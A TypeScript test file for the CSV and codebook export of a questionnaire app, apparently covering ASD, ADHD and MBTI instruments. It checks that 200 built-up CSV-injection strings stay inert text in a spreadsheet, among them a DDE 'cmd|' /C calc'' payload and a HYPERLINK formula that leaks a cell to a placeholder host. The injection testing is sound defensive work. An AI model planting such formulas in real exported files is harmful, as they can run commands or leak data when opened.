import { read, utils, type WorkSheet } from "@e965/xlsx";
import { describe, expect, it } from "vitest";
import { CATALOGUE, describeResult } from "../catalogue.ts";
import type { Instrument } from "../instrument.ts";
import { writeCodebook } from "./codebook.ts";
import { listColumns, writeHeader, writeRow } from "./columns.ts";
import { CSV_BEGIN, writeCsvLine } from "./csv.ts";
import type { ExportedResult } from "./exported-result.ts";
import { startBundle } from "./fhir.ts";
import { listOwnScores } from "./own-scores.ts";

/* An independent library reads the exported tables as a spreadsheet program would. */

const instruments = await Promise.all(CATALOGUE.map(({ load }) => load()));
const columns = listColumns({ instruments, hasAnswers: () => true, describe: describeResult });
const asd = instruments.find(({ id }) => id === "asd")!;

/** Opens a file like a spreadsheet; `raw` keeps numbers, times and formulas as text. */
function open(csv: string, raw = false): WorkSheet {
  const { Sheets } = read(new TextEncoder().encode(csv), { type: "array", raw });
  return Object.values(Sheets)[0] ?? {};
}

const rowsOf = (sheet: WorkSheet) =>
  utils.sheet_to_json<string[]>(sheet, { header: 1, raw: false, defval: "" });
const recordsOf = (csv: string) =>
  utils.sheet_to_json<Record<string, string>>(open(csv, true), { raw: false, defval: "" });

/** Returns the cells with a formula. */
const formulasOf = (sheet: WorkSheet) =>
  Object.values(sheet).filter((cell) => typeof cell === "object" && cell !== null && "f" in cell);

const unguard = (text: string) => (text.startsWith("'") ? text.slice(1) : text);

function resultOf({ id, questions, evaluate }: Instrument, place: number): ExportedResult {
  const answers = Object.fromEntries(
    questions.map((question) => [question.id, question.options.at(place)!.value]),
  );
  const evaluation = evaluate(answers);
  if (!evaluation.ok) throw new Error(evaluation.messages.join());
  const { version, totalScore, scores, resultType } = evaluation.outcome;
  return {
    id: `00000000-0000-4000-8000-00000000000${place + 1}`,
    test_type: id,
    test_name: "名称",
    result_type: resultType,
    total_score: totalScore,
    scores,
    start_time: "2026-11-29T01:02:03.000Z",
    end_time: "2026-11-29T01:12:03.000Z",
    version,
    answers,
  };
}

const HEADS = [
  "=",
  "+",
  "-",
  "@",
  "＝",
  "＋",
  "－",
  "＠",
  "'",
  "''=",
  "\t=",
  "\r=",
  "\n=",
  " =",
  "\u00A0=",
  "\uFEFF=",
  "\u200B+",
  '"=',
  '""',
  ",",
];
const TAILS = [
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://a.example?x="&A1,"点")',
  '一"二"，三;四',
  "一\r\n=二",
  "一\n\n二",
  "🧭👨‍👩‍👧",
  '"',
  "\t,\t",
  "",
];
const HOSTILE = HEADS.flatMap((head) => TAILS.map((tail) => head + tail));

describe("the table of results", () => {
  it("keeps 200 hostile texts letter by letter and runs none of them", () => {
    expect(new Set(HOSTILE).size).toBe(200);
    const sheet = open(CSV_BEGIN + HOSTILE.map((text) => writeCsvLine(["x", text, 1])).join(""));
    expect(rowsOf(sheet).map(([, text = ""]) => unguard(text))).toEqual(HOSTILE);
    expect(formulasOf(sheet)).toEqual([]);
    // Checks that the library reads formulas as such.
    expect(formulasOf(open('"=1+1"\r\n'))).toHaveLength(1);
    const begun = rowsOf(sheet).map(([, text = ""]) => text.replace(/^[\s\p{C}]+/u, ""));
    expect(begun.filter((text) => /^[=+\-@＝＋－＠]/u.test(text))).toEqual([]);
  });

  it("is the same table in a spreadsheet: one row a result, one column an item", () => {
    const results = instruments.flatMap((instrument) => [resultOf(instrument, 0), resultOf(instrument, -1)]);
    const rows = recordsOf(
      CSV_BEGIN + writeHeader(columns) + results.map((each) => writeRow(columns, each)).join(""),
    );
    expect(rows).toHaveLength(8);
    for (const [index, { test_type: type, scores, answers, ...result }] of results.entries()) {
      const row = rows[index] ?? {};
      expect(row).toMatchObject({ id: result.id, test: type, version: result.version, other_scores: "" });
      expect(Number(row["total_score"])).toBe(result.total_score);
      const prefix = type.replaceAll("-", "_");
      for (const [question, value] of Object.entries(answers as object))
        expect(row[`${prefix}_q${question.padStart(2, "0")}`]).toBe(String(value));
      for (const [name, value] of Object.entries(scores))
        if (typeof value === "number") expect(row[`${prefix}_${name}`]).toBe(String(value));
    }
    // The columns of other tests must be empty.
    expect(rows[0]?.["mbti_q01"]).toBe("");
  });

  it("loses nothing of another version, and takes in what anybody may have put into a file", () => {
    const odd: ExportedResult = {
      ...resultOf(asd, 0),
      result_type: "=1+1",
      version: undefined,
      scores: { riskCount: 3, old: 7, map: { of: "=x" } },
      answers: { 1: "=cmd", 2: { deep: true }, 3: null, 99: "是" },
      followUp: { "s1-far": ["window", "busy"] },
    };
    const [row] = recordsOf(CSV_BEGIN + writeHeader(columns) + writeRow(columns, odd));
    expect(row).toMatchObject({
      result_type: "'=1+1",
      version: "",
      asd_riskCount: "3",
      asd_q01: "'=cmd",
      asd_q02: '{"deep":true}',
      asd_q03: "",
      asd_s1_far: "window busy",
    });
    expect(JSON.parse(row?.["other_scores"] ?? "")).toEqual({ old: 7, map: { of: "=x" } });
  });
});

describe("the codebook", () => {
  const book = recordsOf(writeCodebook(columns));
  const find = (name: string) => book.find(({ column }) => column === name);

  it("has a line for each column, in the same order", () => {
    const named = book.filter(({ column }) => column !== "");
    expect(named.map(({ column }) => column)).toEqual(columns.map(({ name }) => name));
  });

  it("names every score in words, and says that the confidence of the toddler test is no accuracy", () => {
    const labels = instruments.flatMap((each) => listOwnScores(each)).map(({ label }) => label);
    expect(labels.filter((label) => !/[\u4e00-\u9fff]/.test(label))).toEqual([]);
    expect(find("asd_confidence")).toMatchObject({ text: "参考置信度：只是算式，不代表准确度", options: "" });
    expect(find("asd_totalQuestions")).toMatchObject({ text: "题数" });
    const bundle = startBundle([asd]).begin;
    expect(bundle).toContain('"code":"asd.confidence","display":"参考置信度：只是算式，不代表准确度"');
  });

  it("gives wording, version, options and key as the scoring has them", () => {
    expect(find("adhd_q10")).toMatchObject({
      version: "adhd-2",
      item: "10",
      options: "0：从不；1：很少；2：有时；3：经常；4：非常频繁",
      key: expect.stringContaining("hyperactivity：0、1、2、3、4"),
    });
    expect(find("asd_q02")).toMatchObject({ key: "riskCount：1、0", text: asd.questions[1]?.text });
    expect(find("asd_q01")).toMatchObject({ key: "riskCount：0、1" });
    expect(find("mbti_q02")).toMatchObject({ key: "E：0、1；I：1、0" });
    expect(find("asd_adult_q01")).toMatchObject({
      key: expect.stringContaining("socialSkills：0、0、1、1；"),
    });
    expect(find("asd_s1_far")).toMatchObject({
      item: "1",
      key: "",
      options: expect.stringMatching(/^window：/),
    });
    expect(book.filter(({ column, source }) => column === "" && source !== "")).toHaveLength(
      instruments.length,
    );
  });
});
